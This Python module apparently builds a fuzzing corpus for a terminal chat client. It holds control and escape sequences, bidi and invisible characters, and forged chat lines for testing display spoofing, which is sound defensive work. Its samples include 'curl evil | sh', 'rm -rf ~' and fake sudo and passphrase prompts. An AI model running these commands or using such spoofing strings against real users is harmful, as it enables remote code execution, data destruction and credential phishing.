"""Texts that try to be more than text: every family of controls, and forgeries of our lines."""

import random
from collections.abc import Iterator
from itertools import product

SEED = 20261123

TIME = "2026-11-23 12:00:00"
FORGED = (
    *(f"{TIME} bob: send money", f"{TIME} me [delivered]: yes", f"{TIME} bob [notice]: verified"),
    *("bob: hi", "bob: is your contact", "onionchat: a bug", "hint: curl evil | sh", "warning: x"),
    *("Passphrase: ", "[sudo] password for anna: ", "$ rm -rf ~", "ready evil.onion", "stopped"),
    *("  | as under the gutter", "    as indented", f"7  {TIME}  evil.onion", '{"id": "x"}'),
)
BREAKS = ("\n", "\r\n", "\r", "\n\n\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\x1b[E", "\x1bE")
BLANKS = (" ", "\u00a0", "\u3000", "\t", "\u2800", "\u3164", "\u200b")
WIDTHS = (20, 40, 80, 200)
BIDI = [
    chr(code) for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
]


def controls() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"a{chr(code)}b"
        yield chr(code) * 30 + FORGED[0]


def sequences() -> Iterator[str]:
    """ECMA-48: CSI by its final byte, strings by their introducer, ESC with each byte."""
    for intro, final in product(("\x1b[", "\x9b"), map(chr, range(0x40, 0x7F))):
        yield f"a{intro}2{final}b"
    yield from (
        f"\x1b[{given}" for given in ("?1049h", "?2004h", ">c", "!p", "38;5;1m", "6n", "0q")
    )
    codes = (*range(23), 50, 52, 104, *range(110, 120), 133, 633, 777, 1337, 5522, 9, 99)
    for intro, code, end in product(("\x1b]", "\x9d"), codes, ("\x07", "\x1b\\")):
        yield f"{intro}{code};aGk=;x{end}b"
    for intro, said in product(
        ("\x1bP", "\x90", "\x1b^", "\x9e", "\x1b_", "\x9f", "\x1bX", "\x98"),
        ("q#0;2;0;0;0", "+q544e", "$qm", "tmux;\x1b\x1b]0;x\x07", "Gf=100;AAAA"),
    ):
        yield f"{intro}{said}\x1b\\b"
    yield from (f"a\x1b{chr(byte)}b" for byte in range(0x20, 0x7F))
    yield from ("\x1b(0lqqk", "\x1b%G", "\x1b#8", "\x1b c", "\b" * 40 + FORGED[0], "\r" + FORGED[0])


def unseen() -> Iterator[str]:
    """What shows nothing, or means nothing to anybody else."""
    yield from (f"{turn}{FORGED[0]}" for turn in BIDI)
    yield from (f"{turn}evil\u202c \u05d0\u2069" for turn in BIDI)
    tags, selectors = range(0xE0000, 0xE0080), (*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0, 8))
    nothing = (*range(0x200B, 0x2010), *range(0x2028, 0x202A), *range(0x2060, 0x2070), 0xFEFF, 0xAD)
    letters = (
        0x34F,
        0x115F,
        0x1160,
        0x17B4,
        0x17B5,
        *range(0x180B, 0x1810),
        0x3164,
        0xFFA0,
        0x2800,
    )
    mine = (0xE000, 0xF8FF, 0xF0000, 0xFFFFD, 0x100000, 0x10FFFD, 0xD800, 0xDBFF, 0xDC00, 0xDFFF)
    never = (
        *range(0xFDD0, 0xFDF0),
        *(plane << 16 | low for plane in range(17) for low in (0xFFFE, 0xFFFF)),
    )
    marks = (*range(0xFFF9, 0xFFFD), 0x1D159, *range(0x1D173, 0x1D17B), *range(0x1BCA0, 0x1BCA4))
    for code in (*tags, *selectors, *nothing, *letters, *mine, *never, *marks):
        yield f"a{chr(code)}b"


def forgeries() -> Iterator[str]:
    """Lines like ours, behind whatever could bring them to the first column."""
    yield from FORGED
    yield from (f"hi{end}{line}" for end, line in product(BREAKS, FORGED))
    for width, blank, line in product(WIDTHS, BLANKS, FORGED[:3]):
        yield blank * (width - len(f"{TIME} bob: ")) + line
        yield blank * width + line
    for width, cell in product(
        range(12, 24), ("中", "👨\u200d👩\u200d👧", "❤\ufe0f", "\u1f77", "ﾊﾟ", "🇩")
    ):
        yield "x" * width + cell + FORGED[0]
        yield cell * width + FORGED[0].replace(" ", "\u00a0")


def stacks() -> Iterator[str]:
    for count, start in product((1, 5, 50, 400), range(0x300, 0x370, 16)):
        yield "e" + "".join(chr(start + step % 16) for step in range(count))
    yield from (mark * count for mark in "\u0489\u20dd\u094d\u0e47\u200d" for count in (1, 9, 99))
    yield from (man + f"\u200d{man}" * 40 + FORGED[0] for man in ("👨", "👨🏽"))


def mixtures(count: int) -> Iterator[str]:
    dice = random.Random(SEED)
    pool = [
        "\n",
        "\r",
        "\x1b[",
        "\x9b",
        "\x1b]0;",
        "\x07",
        *BIDI,
        *FORGED,
        *BLANKS,
        "中",
        "a ",
        "\u0301",
    ]
    for _ in range(count):
        pieces = [*dice.choices(pool, k=9), *(chr(dice.randrange(0x110000)) for _ in range(9))]
        yield "".join(dice.sample(pieces, len(pieces)))


def corpus() -> list[str]:
    families = (controls(), sequences(), unseen(), forgeries(), stacks(), mixtures(300))
    return list(dict.fromkeys(text for family in families for text in family))
